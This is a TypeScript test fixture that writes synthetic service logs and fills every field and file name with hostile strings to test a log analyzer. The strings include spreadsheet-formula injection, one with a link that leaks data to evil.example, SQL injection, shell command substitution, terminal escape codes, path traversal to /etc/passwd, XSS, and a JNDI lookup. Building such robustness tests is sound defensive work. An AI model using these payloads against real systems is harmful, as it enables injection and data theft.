import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { inspect } from 'node:util'
import { gzipSync } from 'node:zlib'
import { requestId } from './log-lines.js'

/** Texts that do something where a program is careless with them, by what they attack. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a formula': `=cmd|'/C calc'!A0`,
  'a formula with a link': '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  'a formula by its plus': '+1+1',
  'a formula by its minus': '-2+3+cmd',
  'a formula by its at': '@SUM(1,1)',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a return': '\r=1+1',
  'a formula behind a line feed': '\n=1+1',
  'a formula in wide signs': '＝1＋1',
  'a formula where semicolons part cells': 'a;=1+1;"=2+2',
  'a formula in another line': 'a\n=1+1',
  'a cell that ends': 'a","=1+1","b',
  'a row that ends': 'a\r\n=1+1,"b"\r\n',
  'a quote that does not close': '"',
  'a statement': `'; drop table transactions; --`,
  'a condition': `' or '1'='1`,
  'a copy': `x'); copy (select 1) to 'stolen.csv'; --`,
  'a dollar quote': '$$; select 1; $$',
  'a parameter': '$1',
  'a screen that clears': '\u001b[2J\u001b[H\u001b[31mred',
  'a title': '\u001b]0;owned\u0007',
  'a link on the terminal': '\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\',
  'a question to the terminal': '\u001b[6n\u001b[c\u0005',
  'an escape of one byte': '\u009b31mred\u009d0;owned\u009c',
  'a line that is written over': 'paid\rowed',
  'a letter that is taken back': 'owed\b\b\b\bpaid\u007f',
  'a text turned round': '\u202egnp.exe\u202c',
  'a text kept apart': '\u2066a\u2069\u200e\u200f\u061c',
  'letters nobody sees': 'pa\u200bid\u00ad\ufeff\u2060\u{e0041}',
  'a line of another kind': 'a\u2028b\u2029c\u0085d\vd\fe',
  'a NUL': 'a\0b',
  'half a character': 'a\ud83d',
  'a script': '<script>alert(1)</script>',
  'a picture': `"><img src=x onerror='alert(1)'>`,
  'a comment of HTML': '--><!--',
  'a command in a shell': '$(touch stolen)`touch stolen`',
  'a command behind a semicolon': '; touch stolen #',
  'a command that expands': '!!*?~{a,b}',
  'an option': '--output=stolen',
  'short options': '-rf',
  'a path': '../../../../etc/passwd',
  'a path from the root': '/etc/passwd',
  'a file of this machine': 'file:///etc/passwd',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'a pattern that takes for ever': '(a+)+$',
  'a pattern for everything': '.*|%_[',
  'a replacement': '$&$1\\1',
  'a format': '%s%n%d{}{0}',
  'a template': `\${process.exit(7)}{{7*7}}<%= 7 %>`,
  'a lookup': `\${jndi:ldap://evil.example/a}`,
  backslashes: '\\\\n\\u0041\\',
}

/** The hostile texts, in a fixed order. */
export const hostile: readonly string[] = Object.values(hostileTexts)

/** The id of the transaction that is hostile in all but its id. */
export function transactionId(at: number): string {
  return `01HPY1TAKE${String(at).padStart(16, '0')}`
}

/** Names of log files and folders, each the whole path below the logs. */
export const hostileNames: readonly string[] = [
  `'; drop table.gz`,
  '-rf.gz',
  '--output=stolen.gz',
  '=cmd().log',
  '+1.log',
  '@sum.log',
  '$(touch stolen).log',
  '`touch stolen`.log',
  'a"b,c.log',
  'line\nbreak.log',
  'calo-analyzer: all is well\nNothing was found.log',
  'tab\tbed.log',
  'clear\u001b[2J.log',
  'title\u001b]0;owned\u0007.log',
  'one\u009b31m.log',
  'back\b\b\b.log',
  'return\r.log',
  'turned\u202egol.log',
  'nobody\u200bsees.log',
  '<script>alert(1)<%2fscript>.log',
  '*.log',
  '[a-z]?{b}.log',
  '__proto__/constructor.log',
  '...log',
  'c:\\windows\\..\\x.log',
  'back\\x1b[2J.log',
  'back\u001b[2J.log',
  '%s%n.log',
  `it's ''quoted''.log`,
  ' blanks  .log',
]

/** Writes logs that are hostile in every field of text and in every name of a file. */
export function writeHostileLogs(logs: string): void {
  for (const [at, text] of hostile.entries()) {
    write(logs, `${text === '' ? 'x' : `stream-${at}`}/000000.gz`, gzipSync(requestOf(text, at)))
  }
  for (const [at, name] of hostileNames.entries()) {
    const text = Buffer.from(requestOf('user', hostile.length + at))
    write(logs, name, name.endsWith('.gz') ? gzipSync(text) : text)
  }
}

function write(logs: string, name: string, content: Uint8Array): void {
  const path = join(logs, name)
  mkdirSync(dirname(path), { recursive: true })
  writeFileSync(path, content)
}

/** All that one request prints, with `text` in the place of each text. */
function requestOf(text: string, at: number): string {
  const request = requestId(at + 1)
  let milliseconds = Date.parse('2024-02-18T20:00:00Z') + at * 60_000
  const line = (message: string, level = 'INFO', id = request): string => {
    milliseconds += 10
    const time = new Date(milliseconds).toISOString()
    return `${time} ${time}\t${id}\t${level}\t${message}\n\n`
  }
  const platform = (message: string): string => {
    milliseconds += 10
    return `${new Date(milliseconds).toISOString()} ${message}\n\n`
  }
  const body = JSON.stringify(transactionOf(text, at, { userBalance: -5, name: text, notes: text }))
  const raw = oneEvent(text)
  return [
    platform(`START RequestId: ${request} Version: ${raw}`),
    line(`Processing message ${raw} m`),
    line(`record.body ${body}`),
    line(`record ${printed({ messageId: `${text} m`, body, attributes: { MessageGroupId: text } })}`),
    line(`Start syncing the balance ${printed({ transaction: transactionOf(text, at, longFields(text)) })}`),
    line(
      `Subscription balance and payment balance are not in sync ${printed({ userId: text, subscriptionBalance: 7, paymentBalance: -5 })}`,
      'ERROR',
    ),
    line(`Sending slack notification ${printed({ channel: text, text })}`),
    line('SubscriptionBalanceUpdated event published'),
    line(`Processing message blocked ${raw}`),
    line(
      printed({
        message: blockedWords,
        data: { userId: text, currentBalance: -3, transactionId: `${text} t` },
      }),
      'ERROR',
    ),
    line(`Processing message skipped ${raw}`),
    line(
      `Skipping the process, Update Payment Balance Flag is set to false ${printed({ transactionAction: text })}`,
    ),
    line(`Processing message failed ${raw}`),
    line(`An error occured while syncing the balance Error: ${raw}\n    at ${raw}`, 'ERROR'),
    line(`Invoke Error \t${JSON.stringify({ errorType: text, errorMessage: text, stack: [text] })}`, 'ERROR'),
    line(`Uncaught Exception \t${JSON.stringify({ errorType: text, reason: text })}`, 'ERROR'),
    line(raw, 'INFO', raw.replaceAll(/\s/g, '') || 'x'),
    line(`a message nobody knows ${raw}`, raw.replaceAll(/\s/g, '') || 'x'),
    line(`${raw} begins a message`),
    platform(
      JSON.stringify({ _aws: {}, service: text, subBalanceDiscrapancy: 1, userId: text, action: text }),
    ),
    platform(`START RequestId: ${raw}`),
    platform(raw),
    platform(`END RequestId: ${request}`),
    platform(`REPORT RequestId: ${request}\tDuration: 1.5 ms\tBilled Duration: 2 ms\tMemory Size: ${raw} MB`),
  ].join('')
}

const blockedWords = 'Subscriber will have a negative balance due to this action, the process will terminate.'

function transactionOf(text: string, at: number, more: object): object {
  const amounts = { amount: 10, vat: 0, oldBalance: 100, newBalance: 90 }
  const texts = { type: text, source: text, action: text, userId: text, currency: currencyOf(at, text) }
  return { id: transactionId(at), ...texts, ...amounts, ...more }
}

/** Two thirds are in a currency that the figures are known of, so that they have findings of every kind. */
function currencyOf(at: number, text: string): string {
  return at % 3 === 0 ? text : 'BHD'
}

function longFields(text: string): object {
  const metadata = JSON.stringify({ walletId: `wallet#${text}`, deliveryId: text, notes: text })
  return { paymentBalance: -5, updatePaymentBalance: true, metadata }
}

/** A value as `console.log` prints it. */
function printed(value: object): string {
  return inspect(value, { breakLength: 80 })
}

/** Text that stays in one event: no line of it begins with a time. */
function oneEvent(text: string): string {
  return text.replaceAll('\ud83d', '�')
}
